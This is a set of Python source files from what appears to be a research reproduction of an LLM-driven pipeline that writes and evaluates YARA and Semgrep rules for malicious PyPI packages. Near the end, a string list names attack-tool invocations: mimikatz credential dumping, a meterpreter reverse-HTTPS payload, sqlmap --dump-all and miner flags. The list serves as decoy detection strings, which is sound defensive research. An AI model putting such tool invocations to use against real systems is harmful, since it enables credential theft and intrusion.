    the same rule sets) matching is delegated to it: the index prefilters
    rules by literal atoms and only fully evaluates candidates, producing
    identical detections much faster on large rule sets.
    """

    def __init__(
        self,
        yara_rules: CompiledRuleSet | None = None,
        semgrep_rules: CompiledSemgrepRuleSet | None = None,
        match_threshold: int = 1,
        include_metadata_in_text: bool = True,
        index: "object | None" = None,
    ) -> None:
        if yara_rules is None and semgrep_rules is None:
            raise ValueError("RuleScanner needs at least one rule set")
        self.yara_rules = yara_rules
        self.semgrep_rules = semgrep_rules
        self.match_threshold = match_threshold
        self.include_metadata_in_text = include_metadata_in_text
        self.index = index

    @classmethod
    def with_index(
        cls,
        yara_rules: CompiledRuleSet | None = None,
        semgrep_rules: CompiledSemgrepRuleSet | None = None,
        match_threshold: int = 1,
        include_metadata_in_text: bool = True,
    ) -> "RuleScanner":
        """Build a scanner that routes matching through an atom-prefilter index."""
        from repro.scanserve import RuleIndex

        return cls(
            yara_rules=yara_rules,
            semgrep_rules=semgrep_rules,
            match_threshold=match_threshold,
            include_metadata_in_text=include_metadata_in_text,
            index=RuleIndex(yara=yara_rules, semgrep=semgrep_rules),
        )

    # -- scanning ------------------------------------------------------------------
    def scan_package(
        self,
        package: Union[Package, PreparedPackage],
        timings: ScanTimings | None = None,
        cost_sink: "object | None" = None,
    ) -> PackageDetection:
        """Scan one package; ``cost_sink`` (any object with
        ``record(engine, rule_key, seconds, package)``, e.g. a
        :class:`repro.scanserve.telemetry.RuleCostSample`) receives per-rule
        evaluation timings without changing the detections."""
        prepared = self._prepare(package)
        started = time.perf_counter()
        prepare_before = prepared.prepare_seconds
        detection = PackageDetection(
            package=prepared.package.identifier,
            actual_malicious=prepared.package.is_malicious,
        )
        if self.yara_rules is not None and len(self.yara_rules):
            text = prepared.yara_text
            yara_start = time.perf_counter()
            if self.index is not None:
                # names-only fast path: same verdicts, no RuleMatch payloads
                names = set(
                    self.index.yara_rule_names(
                        text,
                        cost_sink=cost_sink,
                        package=detection.package,
                        folded=prepared.folded_text,
                    )
                )
            elif cost_sink is not None:
                # same verdicts as CompiledRuleSet.match, timed per rule
                names = set()
                for rule in self.yara_rules.rules:
                    rule_start = time.perf_counter()
                    found = rule.match(text)
                    cost_sink.record(
                        "yara", rule.name,
                        time.perf_counter() - rule_start, detection.package,
                    )
                    if found is not None:
                        names.add(found.rule_name)
            else:
                names = {m.rule_name for m in self.yara_rules.match(text)}
            detection.yara_rules = sorted(names)
            if timings is not None:
                timings.yara_seconds += time.perf_counter() - yara_start
        if self.semgrep_rules is not None and len(self.semgrep_rules):
            target = prepared.target
            semgrep_start = time.perf_counter()
            if self.index is not None:
                findings = self.index.match_semgrep(target, cost_sink=cost_sink)
            elif cost_sink is not None:
                findings = []
                for compiled in self.semgrep_rules.rules:
                    rule_start = time.perf_counter()
                    findings.extend(compiled.match_target(target))
                    cost_sink.record(
                        "semgrep", compiled.id,
                        time.perf_counter() - rule_start, detection.package,
                    )
            else:
                findings = self.semgrep_rules.match_target(target)
            detection.semgrep_rules = sorted({finding.rule_id for finding in findings})
            if timings is not None:
                timings.semgrep_seconds += time.perf_counter() - semgrep_start
        detection.scan_seconds = time.perf_counter() - started
        if timings is not None:
            timings.prepare_seconds += prepared.prepare_seconds - prepare_before
            timings.packages += 1
        return detection

    def _prepare(self, package: Union[Package, PreparedPackage]) -> PreparedPackage:
        if isinstance(package, PreparedPackage):
            if package.include_metadata_in_text != self.include_metadata_in_text:
                # prepared under a different config: rebuild rather than
                # silently scanning the wrong haystack
                return PreparedPackage(package.package, self.include_metadata_in_text)
            return package
        return PreparedPackage(package, self.include_metadata_in_text)

    def scan_prepared(
        self,
        packages: Iterable[Union[Package, PreparedPackage]],
        timings: ScanTimings | None = None,
        cost_sink: "object | None" = None,
    ) -> list[PackageDetection]:
        """Scan a batch of packages, amortising the atom pass across it.

        With an index attached, one :meth:`RuleIndex.hits_batch` call per
        engine lane replaces the per-package automaton/substring passes;
        candidate evaluation then reuses the precomputed folded haystacks
        and hit sets.  Detections (content *and* order) are identical to
        calling :meth:`scan_package` per package.
        """
        prepared_list = [self._prepare(p) for p in packages]
        if self.index is None or len(prepared_list) <= 1:
            return [
                self.scan_package(p, timings=timings, cost_sink=cost_sink)
                for p in prepared_list
            ]
        prepare_before = [p.prepare_seconds for p in prepared_list]
        detections = [
            PackageDetection(
                package=p.package.identifier,
                actual_malicious=p.package.is_malicious,
            )
            for p in prepared_list
        ]
        if self.yara_rules is not None and len(self.yara_rules):
            batch_start = time.perf_counter()
            hits_list = self.index.hits_batch([p.folded_bytes for p in prepared_list])
            share = (time.perf_counter() - batch_start) / len(prepared_list)
            yara_start = time.perf_counter()
            for prepared, detection, hits in zip(prepared_list, detections, hits_list):
                eval_start = time.perf_counter()
                names = set(
                    self.index.yara_rule_names(
                        prepared.yara_text,
                        cost_sink=cost_sink,
                        package=detection.package,
                        folded=prepared.folded_text,
                        hits=hits,
                    )
                )
                detection.yara_rules = sorted(names)
                detection.scan_seconds += time.perf_counter() - eval_start + share
            if timings is not None:
                timings.yara_seconds += time.perf_counter() - batch_start
        if self.semgrep_rules is not None and len(self.semgrep_rules):
            semgrep_start = time.perf_counter()
            targets = [p.target for p in prepared_list]
            hits_list = self.index.hits_batch([t.folded_text for t in targets])
            share = (time.perf_counter() - semgrep_start) / len(prepared_list)
            for prepared, detection, target, hits in zip(
                prepared_list, detections, targets, hits_list
            ):
                eval_start = time.perf_counter()
                findings = self.index.match_semgrep(
                    target, cost_sink=cost_sink, hits=hits
                )
                detection.semgrep_rules = sorted(
                    {finding.rule_id for finding in findings}
                )
                detection.scan_seconds += time.perf_counter() - eval_start + share
            if timings is not None:
                timings.semgrep_seconds += time.perf_counter() - semgrep_start
        if timings is not None:
            for prepared, before in zip(prepared_list, prepare_before):
                timings.prepare_seconds += prepared.prepare_seconds - before
            timings.packages += len(prepared_list)
        return detections

    def scan(self, packages: Iterable[Union[Package, PreparedPackage]]) -> DetectionResult:
        result = DetectionResult(match_threshold=self.match_threshold)
        total_start = time.perf_counter()
        if self.index is not None:
            result.detections = self.scan_prepared(
                list(packages), timings=result.timings
            )
        else:
            for package in packages:
                result.detections.append(
                    self.scan_package(package, timings=result.timings)
                )
        result.timings.total_seconds = time.perf_counter() - total_start
        return result

    def evaluate(self, packages: Iterable[Union[Package, PreparedPackage]]) -> ConfusionMatrix:
        """Scan and reduce straight to a confusion matrix."""
        return self.scan(packages).confusion()
