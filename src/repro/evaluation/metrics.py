"""Classification metrics (accuracy, precision, recall, F1)."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass
class ConfusionMatrix:
    """Binary confusion matrix over packages (positive class = malicious)."""

    true_positive: int = 0
    false_positive: int = 0
    true_negative: int = 0
    false_negative: int = 0

    # -- updates ---------------------------------------------------------------
    def record(self, actual_malicious: bool, predicted_malicious: bool) -> None:
        if actual_malicious and predicted_malicious:
            self.true_positive += 1
        elif actual_malicious and not predicted_malicious:
            self.false_negative += 1
        elif not actual_malicious and predicted_malicious:
            self.false_positive += 1
        else:
            self.true_negative += 1

    def merge(self, other: "ConfusionMatrix") -> "ConfusionMatrix":
        return ConfusionMatrix(
            self.true_positive + other.true_positive,
            self.false_positive + other.false_positive,
            self.true_negative + other.true_negative,
            self.false_negative + other.false_negative,
        )

    # -- derived metrics ----------------------------------------------------------
    @property
    def total(self) -> int:
        return (self.true_positive + self.false_positive
                + self.true_negative + self.false_negative)

    @property
    def accuracy(self) -> float:
        if self.total == 0:
            return 0.0
        return (self.true_positive + self.true_negative) / self.total

    @property
    def precision(self) -> float:
        predicted = self.true_positive + self.false_positive
        return self.true_positive / predicted if predicted else 0.0

    @property
    def recall(self) -> float:
        actual = self.true_positive + self.false_negative
        return self.true_positive / actual if actual else 0.0

    @property
    def f1(self) -> float:
        precision, recall = self.precision, self.recall
        if precision + recall == 0.0:
            return 0.0
        return 2.0 * precision * recall / (precision + recall)

    def as_dict(self) -> dict[str, float]:
        return {
            "accuracy": self.accuracy,
            "precision": self.precision,
            "recall": self.recall,
            "f1": self.f1,
        }

    def summary(self) -> str:
        return (f"acc={self.accuracy:.1%} prec={self.precision:.1%} "
                f"rec={self.recall:.1%} f1={self.f1:.1%} "
                f"(tp={self.true_positive} fp={self.false_positive} "
                f"tn={self.true_negative} fn={self.false_negative})")


def classification_metrics(labels: list[bool], predictions: list[bool]) -> ConfusionMatrix:
    """Build a confusion matrix from parallel label/prediction lists."""
    if len(labels) != len(predictions):
        raise ValueError("labels and predictions must have the same length")
    matrix = ConfusionMatrix()
    for actual, predicted in zip(labels, predictions):
        matrix.record(actual, predicted)
    return matrix
