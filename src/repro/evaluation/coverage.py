"""Rule-coverage CDF (paper Figures 9 and 10).

Coverage of a rule = number of malicious packages it detects.  The figures
plot the cumulative distribution of coverage across all generated rules:
most YARA rules are narrow (80% detect fewer than 10 packages) while Semgrep
rules are broader.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.evaluation.per_rule import PerRuleStats


@dataclass
class CoverageCdf:
    """The (coverage value, cumulative fraction of rules) series."""

    points: list[tuple[int, float]] = field(default_factory=list)
    rule_count: int = 0

    def fraction_below(self, coverage: int) -> float:
        """Fraction of rules detecting fewer than ``coverage`` packages."""
        if not self.rule_count:
            return 0.0
        below = 0
        for value, fraction in self.points:
            if value < coverage:
                below = fraction
            else:
                break
        return below

    def max_coverage(self) -> int:
        return self.points[-1][0] if self.points else 0


def coverage_cdf(stats: list[PerRuleStats], include_zero_match: bool = True) -> CoverageCdf:
    """Build the empirical CDF of per-rule malware coverage."""
    coverages = [entry.coverage for entry in stats
                 if include_zero_match or entry.total_matches > 0]
    coverages.sort()
    cdf = CoverageCdf(rule_count=len(coverages))
    if not coverages:
        return cdf
    total = len(coverages)
    points: list[tuple[int, float]] = []
    for index, value in enumerate(coverages, start=1):
        fraction = index / total
        if points and points[-1][0] == value:
            points[-1] = (value, fraction)
        else:
            points.append((value, fraction))
    cdf.points = points
    return cdf
