"""Performance as a function of the matched-rule count (paper Figures 5 and 6).

The figures plot accuracy / precision / recall / F1 against the number of
rules a package must match before it is classified malicious.  At a
threshold of one matched rule YARA detection peaks and then degrades as the
threshold rises (generated YARA rules are specific and rarely co-fire),
while Semgrep curves are flatter because structural rules overlap more.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.evaluation.detector import DetectionResult


@dataclass
class MatchedCurvePoint:
    """Metrics at one matched-rule threshold."""

    matched_rules: int
    accuracy: float
    precision: float
    recall: float
    f1: float


@dataclass
class MatchedCurve:
    """The full curve plus the threshold at which F1 peaks."""

    points: list[MatchedCurvePoint] = field(default_factory=list)

    @property
    def best_threshold(self) -> int:
        if not self.points:
            return 0
        best = max(self.points, key=lambda point: point.f1)
        return best.matched_rules

    def series(self, metric: str) -> list[tuple[int, float]]:
        return [(point.matched_rules, getattr(point, metric)) for point in self.points]


def matched_rule_curve(result: DetectionResult, max_threshold: int | None = None) -> MatchedCurve:
    """Sweep the matched-rule threshold and compute metrics at each value."""
    observed_max = max((d.match_count for d in result.detections), default=0)
    if max_threshold is None:
        max_threshold = max(1, observed_max)
    max_threshold = max(1, min(max_threshold, max(observed_max, 1)))
    curve = MatchedCurve()
    for threshold in range(1, max_threshold + 1):
        matrix = result.confusion(threshold)
        curve.points.append(
            MatchedCurvePoint(
                matched_rules=threshold,
                accuracy=matrix.accuracy,
                precision=matrix.precision,
                recall=matrix.recall,
                f1=matrix.f1,
            )
        )
    return curve
