"""Per-rule quality statistics (paper Figures 7 and 8, Section V-C).

For every generated rule we record which packages it matched, its precision
(malicious matches / total matches) and its coverage (number of malicious
packages matched).  Rules that match nothing are reported separately, as the
paper does (65 YARA and 62 Semgrep rules match no package).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable

from repro.evaluation.detector import DetectionResult


@dataclass
class PerRuleStats:
    """Match statistics for one rule."""

    rule: str
    malicious_matches: int = 0
    benign_matches: int = 0

    @property
    def total_matches(self) -> int:
        return self.malicious_matches + self.benign_matches

    @property
    def precision(self) -> float:
        if self.total_matches == 0:
            return 0.0
        return self.malicious_matches / self.total_matches

    @property
    def coverage(self) -> int:
        """Number of malicious packages detected (the paper's coverage measure)."""
        return self.malicious_matches


def per_rule_statistics(result: DetectionResult, rule_names: list[str]) -> list[PerRuleStats]:
    """Compute per-rule statistics for the given rules over a detection result.

    ``rule_names`` should list *all* rules in the scanned set so rules with no
    matches still appear (with zero counts).
    """
    stats = {name: PerRuleStats(rule=name) for name in rule_names}
    for rule, detections in result.rule_hits().items():
        entry = stats.setdefault(rule, PerRuleStats(rule=rule))
        for detection in detections:
            if detection.actual_malicious:
                entry.malicious_matches += 1
            else:
                entry.benign_matches += 1
    return [stats[name] for name in sorted(stats)]


def merge_per_rule_stats(
    stat_groups: Iterable[Iterable[PerRuleStats]],
) -> list[PerRuleStats]:
    """Fold several per-batch stat lists into one aggregate list.

    Counts are summed per rule name, so a round scanned as many batches
    aggregates without re-scanning anything.  Rules missing from some
    groups simply contribute their present counts; the result is sorted by
    rule name (the same order :func:`per_rule_statistics` emits).
    """
    merged: dict[str, PerRuleStats] = {}
    for group in stat_groups:
        for entry in group:
            slot = merged.setdefault(entry.rule, PerRuleStats(rule=entry.rule))
            slot.malicious_matches += entry.malicious_matches
            slot.benign_matches += entry.benign_matches
    return [merged[name] for name in sorted(merged)]


@dataclass
class PrecisionHistogram:
    """Histogram of per-rule precision (the Figure 7 / Figure 8 series)."""

    bin_edges: list[float] = field(default_factory=list)
    counts: list[int] = field(default_factory=list)
    zero_match_rules: int = 0
    high_precision_rules: int = 0

    def series(self) -> list[tuple[float, int]]:
        return list(zip(self.bin_edges, self.counts))


def precision_histogram(stats: list[PerRuleStats], bins: int = 10,
                        high_precision_cutoff: float = 0.95) -> PrecisionHistogram:
    """Bucket matching rules by precision (rules with zero matches counted apart)."""
    if bins < 1:
        raise ValueError("bins must be >= 1")
    histogram = PrecisionHistogram(
        bin_edges=[round(i / bins, 3) for i in range(bins)],
        counts=[0] * bins,
    )
    if not stats:  # nothing to bucket: a well-formed zeroed histogram
        return histogram
    for entry in stats:
        if entry.total_matches == 0:
            histogram.zero_match_rules += 1
            continue
        index = min(int(entry.precision * bins), bins - 1)
        histogram.counts[index] += 1
        if entry.precision >= high_precision_cutoff:
            histogram.high_precision_rules += 1
    return histogram
