"""Plain-text rendering of tables, histograms and series.

The benchmark harness regenerates every table and figure of the paper; these
helpers print them in a terminal-friendly form, with the paper's reported
values alongside where applicable.
"""

from __future__ import annotations

from typing import Sequence


def format_table(headers: Sequence[str], rows: Sequence[Sequence[object]],
                 title: str = "") -> str:
    """Render an aligned ASCII table."""
    columns = len(headers)
    cells = [[str(value) for value in row] for row in rows]
    for row in cells:
        if len(row) != columns:
            raise ValueError("every row must have the same number of columns as headers")
    widths = [len(str(header)) for header in headers]
    for row in cells:
        for index, value in enumerate(row):
            widths[index] = max(widths[index], len(value))

    def render_row(values: Sequence[str]) -> str:
        return " | ".join(value.ljust(widths[index]) for index, value in enumerate(values))

    lines = []
    if title:
        lines.append(title)
    lines.append(render_row([str(h) for h in headers]))
    lines.append("-+-".join("-" * width for width in widths))
    for row in cells:
        lines.append(render_row(row))
    return "\n".join(lines)


def render_histogram(series: Sequence[tuple[object, int]], title: str = "",
                     width: int = 40) -> str:
    """Render a horizontal bar chart for (label, count) pairs."""
    lines = [title] if title else []
    max_count = max((count for _label, count in series), default=0)
    label_width = max((len(str(label)) for label, _count in series), default=1)
    for label, count in series:
        bar_length = int(round(width * count / max_count)) if max_count else 0
        lines.append(f"{str(label).rjust(label_width)} | {'#' * bar_length} {count}")
    return "\n".join(lines)


def render_series(series: Sequence[tuple[object, float]], title: str = "",
                  value_format: str = "{:.3f}") -> str:
    """Render an (x, y) series as aligned text rows."""
    lines = [title] if title else []
    for x, y in series:
        lines.append(f"  {str(x).rjust(8)} -> {value_format.format(y)}")
    return "\n".join(lines)


def percent(value: float) -> str:
    """Format a ratio as a percentage with one decimal, like the paper."""
    return f"{value * 100:.1f}%"
