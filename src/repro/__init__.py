"""RuleLLM reproduction.

A from-scratch Python implementation of *Automatically Generating Rules of
Malicious Software Packages via Large Language Model* (DSN 2025): the RuleLLM
pipeline (crafting, refining and aligning YARA & Semgrep rules for OSS
malware) together with every substrate it needs offline -- a simulated
analyst LLM, pure-Python YARA and Semgrep engines, a synthetic PyPI malware /
benign corpus, the paper's baselines, and an evaluation harness that
regenerates every table and figure of the paper.

The most common entry points:

>>> from repro.corpus import build_dataset, DatasetConfig
>>> from repro.core import RuleLLM, RuleLLMConfig
>>> dataset = build_dataset(DatasetConfig.small())
>>> rules = RuleLLM(RuleLLMConfig.full()).generate_rules(dataset.malware)
>>> rules.counts()["total"] > 0
True

or, for the streaming generate -> publish -> scan loop, the unified facade:

>>> from repro.api import GenerationSession, ScanService
"""

from repro.api import GenerationSession, SessionResult
from repro.core import RuleLLM, RuleLLMConfig
from repro.core.rules import GeneratedRule, GeneratedRuleSet
from repro.corpus import Dataset, DatasetConfig, build_dataset

__version__ = "1.1.0"

__all__ = [
    "GenerationSession",
    "SessionResult",
    "RuleLLM",
    "RuleLLMConfig",
    "GeneratedRule",
    "GeneratedRuleSet",
    "Dataset",
    "DatasetConfig",
    "build_dataset",
    "__version__",
]
