"""Provider-agnostic LLM interface.

The pipeline only ever talks to :class:`LLMProvider`.  The offline
reproduction wires in :class:`repro.llm.simulated.SimulatedAnalystLLM`; a
real deployment would wire in an API client with the same three methods.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Protocol, runtime_checkable


@dataclass(frozen=True)
class ChatMessage:
    """One message of a chat-style prompt."""

    role: str
    content: str

    def __post_init__(self) -> None:
        if self.role not in ("system", "user", "assistant"):
            raise ValueError(f"invalid role: {self.role!r}")


@dataclass
class CompletionRequest:
    """A full request to the model: system + user messages and sampling knobs."""

    messages: list[ChatMessage] = field(default_factory=list)
    temperature: float = 0.0
    max_output_tokens: int = 4096
    tag: str = ""

    @property
    def system_text(self) -> str:
        return "\n".join(m.content for m in self.messages if m.role == "system")

    @property
    def user_text(self) -> str:
        return "\n".join(m.content for m in self.messages if m.role == "user")

    @property
    def full_text(self) -> str:
        return "\n".join(m.content for m in self.messages)

    @classmethod
    def from_prompt(cls, system: str, user: str, tag: str = "") -> "CompletionRequest":
        return cls(messages=[ChatMessage("system", system), ChatMessage("user", user)], tag=tag)


@dataclass
class Usage:
    """Token accounting for one completion."""

    prompt_tokens: int = 0
    completion_tokens: int = 0

    @property
    def total_tokens(self) -> int:
        return self.prompt_tokens + self.completion_tokens

    def add(self, other: "Usage") -> "Usage":
        return Usage(
            prompt_tokens=self.prompt_tokens + other.prompt_tokens,
            completion_tokens=self.completion_tokens + other.completion_tokens,
        )


@dataclass
class LLMResponse:
    """A completion returned by a provider."""

    text: str
    model: str
    usage: Usage = field(default_factory=Usage)
    truncated_prompt: bool = False

    def __bool__(self) -> bool:
        return bool(self.text.strip())


@runtime_checkable
class LLMProvider(Protocol):
    """The protocol every model backend implements."""

    @property
    def model_name(self) -> str:
        """A short model identifier (e.g. ``gpt-4o``)."""
        ...

    @property
    def context_window(self) -> int:
        """Maximum number of prompt tokens the model accepts."""
        ...

    def complete(self, request: CompletionRequest) -> LLMResponse:
        """Produce a completion for the request."""
        ...
