"""Simulated large-language-model substrate.

The paper drives its pipeline with commercial LLM APIs (GPT-4o, GPT-3.5,
Claude-3.5-Sonnet, Llama-3.1-70B).  None of those are reachable offline, so
this subpackage provides a *simulated analyst LLM*: a deterministic
static-analysis and rule-synthesis engine wrapped behind the same prompt-in /
text-out interface an API client would expose.

What is preserved from the paper:

* the **interface boundary** -- the pipeline renders textual prompts
  (Tables III-V) and parses textual completions; nothing crosses the boundary
  as Python objects;
* the **failure modes** -- per-model capability profiles control recall of
  behaviours, precision of extracted strings, hallucination and syntax-error
  rates, and context-window truncation, so the ablation and model-comparison
  experiments (Tables IX and X) exercise the same dynamics;
* the **knowledge** -- an indicator catalogue of malicious-code idioms plays
  the role of the model's pre-trained security knowledge (Table II).

Swapping in a real API client only requires implementing
:class:`~repro.llm.base.LLMProvider`.
"""

from repro.llm.base import ChatMessage, CompletionRequest, LLMProvider, LLMResponse, Usage
from repro.llm.tokenizer import count_tokens, truncate_to_tokens
from repro.llm.knowledge import IndicatorPattern, INDICATOR_CATALOG, indicators_for_category
from repro.llm.analysis import BehaviorFinding, CodeAnalysisReport, CodeAnalyzer
from repro.llm.profiles import ModelProfile, PROFILES, get_profile
from repro.llm.faults import FaultInjector
from repro.llm.simulated import SimulatedAnalystLLM

__all__ = [
    "ChatMessage",
    "CompletionRequest",
    "LLMResponse",
    "LLMProvider",
    "Usage",
    "count_tokens",
    "truncate_to_tokens",
    "IndicatorPattern",
    "INDICATOR_CATALOG",
    "indicators_for_category",
    "BehaviorFinding",
    "CodeAnalysisReport",
    "CodeAnalyzer",
    "ModelProfile",
    "PROFILES",
    "get_profile",
    "FaultInjector",
    "SimulatedAnalystLLM",
]
