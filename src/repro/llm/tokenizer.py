"""Token counting and truncation.

A faithful BPE tokenizer is unnecessary for the reproduction; what matters is
that *long inputs overflow the context window and get truncated*, which is
one of the paper's three technical challenges.  We approximate tokens with
the usual "about four characters per token" heuristic, refined by counting
whitespace-separated words and punctuation.
"""

from __future__ import annotations

import re

_WORD_RE = re.compile(r"\w+|[^\w\s]")

#: Average characters per token used by the coarse estimator.
CHARS_PER_TOKEN = 4.0


def count_tokens(text: str) -> int:
    """Estimate the number of tokens in ``text``.

    The estimate blends a word/punctuation count with a character count,
    which tracks real BPE tokenisers closely enough for context-window
    bookkeeping on source code.
    """
    if not text:
        return 0
    pieces = len(_WORD_RE.findall(text))
    by_chars = len(text) / CHARS_PER_TOKEN
    return int(round(0.5 * pieces + 0.5 * by_chars)) or 1


def truncate_to_tokens(text: str, max_tokens: int) -> tuple[str, bool]:
    """Truncate ``text`` to roughly ``max_tokens`` tokens.

    Returns the (possibly truncated) text and a flag indicating whether
    truncation happened.  Truncation is from the end, mirroring how an API
    client would clip an over-long prompt before sending it.
    """
    if max_tokens <= 0:
        return "", bool(text)
    if count_tokens(text) <= max_tokens:
        return text, False
    # binary search on character length for the largest prefix within budget
    low, high = 0, len(text)
    while low < high:
        mid = (low + high + 1) // 2
        if count_tokens(text[:mid]) <= max_tokens:
            low = mid
        else:
            high = mid - 1
    return text[:low], True
