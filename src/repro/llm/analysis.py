"""The simulated analyst's code-audit capability (paper Table II).

``CodeAnalyzer`` scans a code snippet for the idioms in the indicator
catalogue and reports :class:`BehaviorFinding`s grouped by the paper's six
audit categories (IoC, file operation, network activity, encryption,
privilege operation, anti-debug/anti-analysis).  It also audits package
metadata using the Table II metadata checks.

This module is deterministic and exhaustive; the *model profile* (recall,
hallucinations, ...) is applied on top of it by the simulated provider, so a
"perfect analyst" is available for tests and a degraded one for the model
comparison experiments.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.categories import METADATA_RELATED, category_of
from repro.corpus.package import PackageMetadata
from repro.extraction.metadata import metadata_audit
from repro.llm.knowledge import INDICATOR_CATALOG, IndicatorPattern


@dataclass
class BehaviorFinding:
    """One suspicious behaviour identified in a basic unit."""

    indicator_key: str
    audit_category: str
    category: str
    subcategory: str
    description: str
    evidence: list[str] = field(default_factory=list)
    specificity: float = 0.5
    matched_text: list[str] = field(default_factory=list)

    def summary(self) -> str:
        evidence = ", ".join(sorted(set(self.evidence))[:3])
        return f"[{self.audit_category}] {self.description} (evidence: {evidence})"


@dataclass
class CodeAnalysisReport:
    """The 'analysis result' artefact produced by the crafting stage."""

    findings: list[BehaviorFinding] = field(default_factory=list)
    metadata_findings: list[str] = field(default_factory=list)
    analyzed_units: int = 0
    truncated: bool = False

    @property
    def is_suspicious(self) -> bool:
        return bool(self.findings) or bool(self.metadata_findings)

    @property
    def subcategories(self) -> list[str]:
        return sorted({finding.subcategory for finding in self.findings})

    @property
    def audit_categories(self) -> list[str]:
        return sorted({finding.audit_category for finding in self.findings})

    def max_specificity(self) -> float:
        if not self.findings:
            return 0.0
        return max(finding.specificity for finding in self.findings)

    def merge(self, other: "CodeAnalysisReport") -> "CodeAnalysisReport":
        """Combine two reports (used when auditing multiple similar units)."""
        merged = CodeAnalysisReport(
            findings=list(self.findings),
            metadata_findings=list(self.metadata_findings),
            analyzed_units=self.analyzed_units + other.analyzed_units,
            truncated=self.truncated or other.truncated,
        )
        existing = {finding.indicator_key for finding in merged.findings}
        for finding in other.findings:
            if finding.indicator_key in existing:
                # merge evidence into the existing finding
                for current in merged.findings:
                    if current.indicator_key == finding.indicator_key:
                        current.evidence = sorted(set(current.evidence) | set(finding.evidence))
                        current.matched_text = sorted(
                            set(current.matched_text) | set(finding.matched_text)
                        )
                        break
            else:
                merged.findings.append(finding)
                existing.add(finding.indicator_key)
        for note in other.metadata_findings:
            if note not in merged.metadata_findings:
                merged.metadata_findings.append(note)
        return merged

    def to_text(self) -> str:
        """Render the ``*.txt`` analysis document described in Section IV-A."""
        lines = ["Analysis Result", "================", ""]
        lines.append(f"Units analyzed: {self.analyzed_units}")
        if self.truncated:
            lines.append("Note: input exceeded the context window and was truncated.")
        lines.append("")
        if self.metadata_findings:
            lines.append("Metadata findings:")
            for note in self.metadata_findings:
                lines.append(f"  - {note}")
            lines.append("")
        if self.findings:
            lines.append("Code findings:")
            for finding in self.findings:
                lines.append(f"  - {finding.summary()}")
        else:
            lines.append("Code findings: none")
        return "\n".join(lines)


class CodeAnalyzer:
    """Deterministic indicator-catalogue scanner."""

    def __init__(self, catalog: tuple[IndicatorPattern, ...] = INDICATOR_CATALOG) -> None:
        self.catalog = catalog
        self._compiled = [(entry, entry.compiled) for entry in catalog]

    # -- code ------------------------------------------------------------------
    def analyze_code(self, code: str) -> CodeAnalysisReport:
        """Scan one basic unit of code for suspicious idioms."""
        report = CodeAnalysisReport(analyzed_units=1)
        if not code or not code.strip():
            return report
        for entry, compiled in self._compiled:
            matches = compiled.findall(code)
            if not matches:
                continue
            matched_text: list[str] = []
            for match in matches[:5]:
                if isinstance(match, tuple):
                    match = next((part for part in match if part), "")
                if match:
                    matched_text.append(str(match))
            report.findings.append(
                BehaviorFinding(
                    indicator_key=entry.key,
                    audit_category=entry.audit_category,
                    category=category_of(entry.subcategory),
                    subcategory=entry.subcategory,
                    description=entry.description,
                    evidence=[entry.signature],
                    specificity=entry.specificity,
                    matched_text=matched_text,
                )
            )
        return report

    def analyze_units(self, units: list[str]) -> CodeAnalysisReport:
        """Audit several similar basic units and merge the findings."""
        report = CodeAnalysisReport(analyzed_units=0)
        for unit in units:
            report = report.merge(self.analyze_code(unit))
        return report

    # -- metadata ------------------------------------------------------------------
    def analyze_metadata(self, metadata: PackageMetadata) -> CodeAnalysisReport:
        """Run the Table II metadata audit and convert it into findings."""
        audit = metadata_audit(metadata)
        report = CodeAnalysisReport(analyzed_units=1)
        report.metadata_findings = audit.findings()
        if audit.empty_information:
            report.findings.append(self._metadata_finding(
                "meta_empty_information", "Package Metadata Manipulation",
                "package ships with empty or placeholder metadata",
                evidence=[f'"name": "{metadata.name}"'],
                specificity=0.5,
            ))
        if audit.release_zero:
            report.findings.append(self._metadata_finding(
                "meta_release_zero", "Version Number Deception",
                "package version is a 0.0 / 0.0.0 placeholder",
                evidence=[f'"version": "{metadata.version}"'],
                specificity=0.6,
            ))
        if audit.typosquatting:
            report.findings.append(self._metadata_finding(
                "meta_typosquatting", "Author Information Spoofing",
                "package name imitates a popular package (typosquatting)",
                evidence=[f'"name": "{metadata.name}"'],
                specificity=0.8,
            ))
        if audit.suspicious_dependencies:
            report.findings.append(self._metadata_finding(
                "meta_fake_dependencies", "Fake Dependency Metadata",
                "package declares suspicious dependency libraries",
                evidence=[f'"{dep}"' for dep in audit.suspicious_dependencies[:4]],
                specificity=0.7,
            ))
        return report

    @staticmethod
    def _metadata_finding(key: str, subcategory: str, description: str,
                          evidence: list[str], specificity: float) -> BehaviorFinding:
        return BehaviorFinding(
            indicator_key=key,
            audit_category="ioc",
            category=METADATA_RELATED,
            subcategory=subcategory,
            description=description,
            evidence=evidence,
            specificity=specificity,
            matched_text=list(evidence),
        )
