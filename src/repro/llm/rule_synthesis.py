"""Rule synthesis: turning analysis findings into YARA / Semgrep rule text.

This is the constructive half of the simulated analyst.  Given the behaviour
findings for a group of similar basic units it drafts a rule the way the
paper's prompts ask for one:

* the ``strings`` section encapsulates the malicious behaviours (API calls,
  file operations, network endpoints) -- taken from the indicator
  catalogue's canonical signatures so the rule generalises across variants;
* logical combinations (``any of them`` / ``N of them``) combine the
  strings;
* Semgrep rules prefer structural patterns (``pattern-either`` of call
  patterns), falling back to ``pattern-regex``.

Model weaknesses are injected here under control of the profile: low string
precision adds overly generic strings (the false-positive source), and
hallucination adds strings that exist in no sample (the zero-coverage-rule
source the paper reports in Figures 7 and 8).
"""

from __future__ import annotations

from repro.llm.analysis import BehaviorFinding
from repro.llm.knowledge import indicator_by_key
from repro.llm.profiles import ModelProfile
from repro.semgrepx.loader import dump_rules_yaml
from repro.semgrepx.rule import SemgrepRuleBuilder
from repro.utils.seeding import DeterministicRandom
from repro.utils.text import safe_identifier
from repro.yarax.serializer import YaraRuleBuilder

#: Overly generic strings a sloppy analyst puts into rules.  They are common
#: in legitimate code, so rules carrying them produce false positives.
GENERIC_BAIT_STRINGS = (
    "requests.get(",
    "os.environ",
    "subprocess.run(",
    "base64.b64decode(",
)

#: Strings a hallucinating analyst invents; they occur in no sample, so rules
#: built only from them match nothing (zero-coverage rules).
HALLUCINATED_STRINGS = (
    "xmrig --donate-level=0",
    "minerd -a cryptonight",
    "sqlmap --dump-all",
    "meterpreter_reverse_https",
    "mimikatz.exe sekurlsa",
    "eternalblue_exploit_module",
)

